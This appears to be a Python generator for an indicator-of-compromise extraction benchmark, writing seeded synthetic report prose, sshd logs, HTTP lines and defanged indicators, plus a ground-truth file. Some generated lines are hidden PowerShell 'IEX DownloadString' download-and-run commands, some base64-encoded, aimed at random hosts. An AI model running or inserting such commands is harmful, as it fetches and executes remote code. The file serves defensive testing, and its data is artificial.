"""Writes the IoC benchmark's mixed text: logs, command lines and report prose with defanged
indicators, deterministic (seeded), about SIZE bytes. Also the pathological 1 MB lines.

    python ioc_text.py mixed OUT [SIZE] [TRUTH]   # default 10 MB; TRUTH: the planted
                                                  # indicators as JSON, by type (refanged)
    python ioc_text.py pathological DIR
"""
import base64
import json
import random
import sys

# Every indicator written, refanged, by type (the ground truth the peers are scored on): what a
# careful analyst would list, including hosts inside URLs and emails, and the URL inside a
# percent-encoded parameter or a base64 PowerShell command.
TRUTH = {t: set() for t in ("ipv4", "domain", "url", "email", "md5", "sha256", "cve")}


def planted(kind, value):
    TRUTH[kind].add(value)
    return value

WORDS = ("the of and to in is was for on that with as by at from this be are an it or which "
         "attacker payload loader beacon campaign observed analysts malware infrastructure "
         "lateral movement persistence credential dumping exfiltration domain controller").split()
TLDS = ["com", "net", "org", "io", "ru", "cn", "info", "top", "xyz", "co.uk", "de"]


def ip(r):
    return ".".join(str(r.randint(1, 254)) for _ in range(4))


def host(r):
    return f"{r.choice(['api', 'cdn', 'mail', 'login', 'update'])}{r.randint(1, 99)}.{r.choice(['alpha', 'bravo', 'kilo', 'delta'])}-{r.randint(1, 999)}.{r.choice(TLDS)}"


def hexs(r, n):
    return "".join(r.choice("0123456789abcdef") for _ in range(n))


def defang(s):
    return s.replace(".", "[.]")


def prose(r, n):
    return " ".join(r.choice(WORDS) for _ in range(n))


def ioc(r):
    # The same random draws as before the truth was recorded (the text is unchanged); only the
    # chosen one is planted.
    h1, p1 = host(r), hexs(r, 6)
    i1 = ip(r)
    s256, m5 = hexs(r, 64), hexs(r, 32)
    n2, h2 = r.randint(1, 99), host(r)
    y, c = r.randint(0, 4), r.randint(1000, 49999)
    t1, t2 = r.randint(0, 599), r.randint(1, 9)
    h3 = host(r)
    choices = [
        (f"hxxp://{defang(h1)}/{p1}", [("url", f"http://{h1}/{p1}"), ("domain", h1)]),
        (defang(i1), [("ipv4", i1)]),
        (f"sha256 {s256}", [("sha256", s256)]),
        (f"md5 {m5}", [("md5", m5)]),
        (f"contact{n2}[at]{defang(h2)}", [("email", f"contact{n2}@{h2}"), ("domain", h2)]),
        (f"CVE-202{y}-{c}", [("cve", f"CVE-202{y}-{c}")]),
        (f"T1{t1:03d}.00{t2}", []),
        (h3, [("domain", h3)]),
    ]
    text, truth = r.choice(choices)
    for kind, value in truth:
        planted(kind, value)
    return text


def line(r):
    """One line: report prose (half of the text), logs, command lines."""
    k = r.random()
    if k < 0.5:
        # A paragraph of a report: a few sentences, one or two indicators.
        sentences = [prose(r, r.randint(10, 25)).capitalize() for _ in range(r.randint(3, 6))]
        for _ in range(r.randint(1, 2)):
            i = r.randrange(len(sentences))
            sentences[i] += f" {ioc(r)}"
        return ". ".join(sentences) + "."
    if k < 0.7:
        return (f"2024-06-01T12:{r.randint(10, 59)}:{r.randint(10, 59)}Z sshd[{r.randint(100, 9999)}]: "
                f"Failed password for invalid user admin from {planted('ipv4', ip(r))} port {r.randint(1024, 65535)} ssh2")
    if k < 0.85:
        h = planted("domain", host(r))
        url = planted("url", f"https://{h}/{r.choice(['a', 'x', 'dl'])}/{hexs(r, 8)}.ps1")
        cmd = f"IEX (New-Object Net.WebClient).DownloadString('{url}')"
        enc = base64.b64encode(cmd.encode("utf-16-le")).decode() if r.random() < 0.2 else ""
        return (f'"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -nop -w hidden '
                + (f"-enc {enc}" if enc else f'-c "{cmd}"'))
    n, h1 = r.randint(1, 9999), planted("domain", host(r))
    i, h2, h3 = planted("ipv4", ip(r)), planted("domain", host(r)), planted("domain", host(r))
    planted("url", f"https://{h2}/p?u=https%3A%2F%2F{h3}%2Fx")
    planted("url", f"https://{h3}/x")
    return (f"GET /index.php?id={n} HTTP/1.1 Host: {h1} "
            f"X-Forwarded-For: {i} User-Agent: Mozilla/5.0 ref=https://{h2}/p?u=https%3A%2F%2F{h3}%2Fx")


def mixed(out, size, truth=None):
    r = random.Random(20261123)
    with open(out, "w") as f:
        n = 0
        while n < size:
            s = line(r) + "\n"
            f.write(s)
            n += len(s)
    if truth:
        with open(truth, "w") as f:
            json.dump({k: sorted(v) for k, v in TRUTH.items()}, f)


def pathological(d):
    for name, unit in [("dots", "a."), ("digits", "1234567890"), ("brackets", "[.]"),
                       ("colons", "1:"), ("urls", "http://"), ("ats", "a@"), ("percent", "%41")]:
        with open(f"{d}/ioc_path_{name}.txt", "w") as f:
            f.write(unit * (1_000_000 // len(unit)))


if __name__ == "__main__":
    if sys.argv[1] == "mixed":
        mixed(sys.argv[2], int(sys.argv[3]) if len(sys.argv) > 3 else 10_000_000,
              sys.argv[4] if len(sys.argv) > 4 else None)
    else:
        pathological(sys.argv[2])
